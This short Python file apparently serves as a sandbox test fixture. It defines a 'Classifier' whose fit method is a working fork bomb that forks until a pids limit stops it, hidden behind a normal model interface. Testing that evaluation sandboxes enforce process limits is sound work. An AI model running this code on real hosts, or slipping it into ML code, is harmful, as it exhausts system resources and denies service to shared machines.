# Forks until the pids limit; the children keep trying, the parent gives up.
import os


class Classifier:
    def fit(self, X, y):
        while True:
            try:
                pid = os.fork()
            except OSError as e:
                raise RuntimeError(f"fork bomb stopped by the pids limit: {e}") from None
            if pid == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass

    def predict_proba(self, X):
        raise AssertionError("never reached")
